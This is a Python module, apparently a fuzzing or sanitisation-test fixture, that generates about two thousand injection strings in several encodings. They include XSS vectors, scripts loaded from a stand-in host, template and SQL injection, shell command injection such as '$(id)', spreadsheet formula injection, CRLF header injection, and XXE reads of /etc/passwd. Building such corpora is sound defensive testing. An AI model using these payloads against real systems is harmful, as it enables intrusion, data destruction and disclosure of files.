"""Texts that would run, leave their place, or steer a program, if they were taken for anything but text."""

# ruff: noqa: E501 -- what is tried stands in one piece

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

#: What would run is this word: a browser that runs it is noticed by it.
CALL = "alert(1)"
#: What ends the place in which a text may stand.
ENDS = (
    "", '">', "'>", "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "*/", '\\">', "&quot;>", '"', "'",
)  # fmt: skip
#: Elements that run or load by themselves.
ELEMENTS = (
    f"<script>{CALL}</script>", "<script src=//x.example/x.js></script>", f"<img src=x onerror={CALL}>", f"<image src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<math><mtext><img src=x onerror={CALL}>", f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>", f"<object data=javascript:{CALL}>", f"<embed src=javascript:{CALL}>", f"<a href=javascript:{CALL}>x</a>",
    f"<form action=javascript:{CALL}><input type=submit>", f"<button formaction=javascript:{CALL}>x", f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}>",
    f"<audio src=x onerror={CALL}>", f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>", f"<marquee onstart={CALL}>", "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<style>@import '//x.example/x.css'</style>", f"<x onclick={CALL}>x",
    f"<p style=background:url(javascript:{CALL})>", f"<table background=javascript:{CALL}>", f"<template><script>{CALL}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<<script>{CALL}//<</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<img src='x' onerror\n={CALL}>", f"<img/src=x/onerror={CALL}>", f"<SCRIPT>{CALL}</SCRIPT>",
)  # fmt: skip
#: Attributes for whoever stands inside of one already.
ATTRIBUTES = tuple(
    f"{quote_} {name}={CALL} x={quote_}"
    for quote_ in ('"', "'", "`", "")
    for name in ("onmouseover", "onfocus autofocus onfocus", "onerror", "onclick", "style", "formaction")
)  # fmt: skip
#: Addresses that run.
ADDRESSES = tuple(
    f"{scheme}{rest}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:", "javascript&colon;", "vbscript:", "data:text/html,",
                   "data:text/html;base64,", "feed:javascript:", "view-source:javascript:", "blob:", "file:///etc/passwd?", "//x.example/", "\\\\x.example\\", "https:javascript:")
    for rest in (CALL, f"//%0a{CALL}", f"<script>{CALL}</script>", f"'+{CALL}+'")
)  # fmt: skip
#: What other programs take for theirs: templates, Markdown, spreadsheets, queries, shells, logs.
OTHERS = (
    "{{7*7}}", "{% include 'x' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{{'a'.__class__}}",
    f"[x](javascript:{CALL})", f"![x](javascript:{CALL})", f"[x]: javascript:{CALL}", f"<javascript:{CALL}>", f"{{: onclick={CALL}}}", "[^1]: x", "```\n</pre><script>alert(1)</script>",
    "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//x.example")', "'; DROP TABLE articles; --", '" OR 1=1 --', "') UNION SELECT 1 --", "$(id)", "`id`", "; id", "| id",
    "\x1b[31mred", "\x1b]0;x\x07", "\x9b31m", "a\r\nSet-Cookie: x=1", "\u2028alert(1)//", "\u202ealert(1)\u202c", "\u2067x", "\ufeff", "\0<script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<?xml-stylesheet href='//x.example/x.xsl'?>", "<?php echo 1 ?>", "<xi:include href='file:///etc/passwd'/>", "&y;", "&#0;", "%n%s%x", "@article{x,", "TY  - JOUR\nER  -", "}}\n@x{",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Yield some two thousand of them, each once, in a fixed order."""
    seen: set[str] = set()
    for payload in (*_elements(), *ATTRIBUTES, *ADDRESSES, *OTHERS):
        for written in _spellings(payload):
            if written not in seen:
                seen.add(written)
                yield written


def _elements() -> Iterator[str]:
    for element in ELEMENTS:
        yield from (end + element for end in ENDS)


def _spellings(payload: str) -> Iterator[str]:
    """Yield a payload as it is and as a page, an address or a script may spell it."""
    yield payload
    if payload.startswith(("<", "javascript", '"')):
        yield html.escape(payload)
        yield quote(payload)
        yield payload.replace("<", "\\u003c").replace("<", "&#x3c;")
        yield "".join(f"&#{ord(one)};" for one in payload)
        yield payload.replace("<", "\uff1c").replace(">", "\uff1e")
